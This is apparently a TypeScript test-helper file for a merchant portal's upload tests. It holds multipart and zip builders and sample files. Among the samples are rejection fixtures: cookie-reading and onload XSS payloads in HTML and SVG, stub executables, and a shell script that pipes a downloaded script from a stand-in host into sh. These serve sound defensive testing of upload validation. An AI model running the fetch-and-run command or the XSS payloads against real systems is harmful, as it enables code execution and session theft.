import { randomUUID } from 'node:crypto';
import { crc32 } from 'node:zlib';
import type { App } from '../../../server/app';
import type { Database } from '../../../server/db/client';
import { files } from '../../../server/db/schema';

export interface Part {
  field: string;
  /** The raw parameters after `name="…"`, e.g. `filename="a.png"` or `filename*=UTF-8''a%0Ab.txt`. */
  disposition?: string;
  filename?: string;
  type?: string;
  bytes: Uint8Array | string;
}

const BOUNDARY = '----merchant-portal-test-5f1c9a';

/** A multipart/form-data body built by hand, so that names can carry what FormData would escape. */
const multipart = (parts: Part[]): { payload: Buffer; headers: Record<string, string> } => {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition = part.disposition ?? (part.filename === undefined ? '' : `filename="${part.filename}"`);
    chunks.push(Buffer.from(
      `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${part.field}"${disposition ? `; ${disposition}` : ''}\r\n`
      + `Content-Type: ${part.type ?? 'application/octet-stream'}\r\n\r\n`,
    ));
    chunks.push(Buffer.from(part.bytes));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` } };
};

/** POST of a multipart body built from `parts`, with the caller's headers (a session's, or none). */
export const postMultipart = (app: App, url: string, parts: Part[], headers: Record<string, string> = {}) => {
  const body = multipart(parts);
  return app.inject({ method: 'POST', url, payload: body.payload, headers: { ...headers, ...body.headers } });
};

/** A stored (uncompressed) zip archive with the given entries: enough for the content checks. */
export const zip = (entries: Record<string, string>): Buffer => {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(entries)) {
    const nameBytes = Buffer.from(name);
    const data = Buffer.from(text);
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(entries).length, 8);
  end.writeUInt16LE(Object.keys(entries).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
};

/** A real 1×1 PNG. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64',
);
/** Real 2×2 images (made by sharp), which the upload decodes and encodes again. */
export const JPEG = Buffer.from(
  '/9j/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMoGhYaKCgo'
  + 'KCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAACAAIDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAb/xAAU'
  + 'EAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAABv/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AJAAnHX/2Q==',
  'base64',
);
export const GIF = Buffer.from('R0lGODlhAgACAIAAAExpcTNmmSH5BAUAAAAALAAAAAACAAIAAAICjFMAOw==', 'base64');
export const WEBP = Buffer.from(
  'UklGRjgAAABXRUJQVlA4ICwAAADwAQCdASoCAAIAAUAmJaACdLoB+AAETAAA/u+9V/43bjDfgu/33oDeBgAAAA==', 'base64',
);
/** JPEG's signature and then nothing a decoder can read: "an image" only by its first bytes. */
export const FAKE_JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0\x01\x01'), Buffer.alloc(32, 7), Buffer.from([0xff, 0xd9])]);
export const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const OFFICE_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
export const DOCX = zip({ '[Content_Types].xml': OFFICE_TYPES, 'word/document.xml': '<w:document/>' });
export const XLSX = zip({ '[Content_Types].xml': OFFICE_TYPES, 'xl/workbook.xml': '<workbook/>' });
export const PPTX = zip({ '[Content_Types].xml': OFFICE_TYPES, 'ppt/presentation.xml': '<presentation/>' });
export const ZIP = zip({ 'notes/readme.txt': 'hello' });
export const CSV = Buffer.from('shop,amount\nCửa hàng Hà Nội,120000\n"a<b",1\n');

export const HTML = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>');
export const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>');
export const XML_SVG = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
export const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.from([0x90, 0, 3, 0, 0, 0, 4, 0]), Buffer.from('This program cannot be run in DOS mode')]);
export const ELF = Buffer.concat([Buffer.from([0x7f]), Buffer.from('ELF'), Buffer.from([2, 1, 1, 0, 0, 0, 0, 0])]);
export const SHELL = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
export const JAR = zip({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil\n', 'Evil.class': 'cafebabe' });
export const NOT_UTF8 = Buffer.from([0x68, 0x69, 0xc3, 0x28, 0x0a]);

/**
 * A row of the files table for `ownerId`, without bytes: enough for what refers to files (records, the sweep).
 * `createdAt` defaults to now.
 */
export const storedFileRow = async (database: Database, ownerId: number, createdAt = new Date()): Promise<string> => {
  const id = randomUUID();
  await database.db.insert(files).values({
    id, ownerId, kind: 'image', originalName: 'a.png', contentType: 'image/png', size: 100, sha256: '0'.repeat(64), createdAt,
  });
  return id;
};

/** A signed link to `id` as the server answers it (src/core/fileLinks.ts). */
export const signedLinkOf = (id: string): RegExp => new RegExp(`^/api/file/${id}\\?t=\\d+\\.[A-Za-z0-9_-]{43}$`);
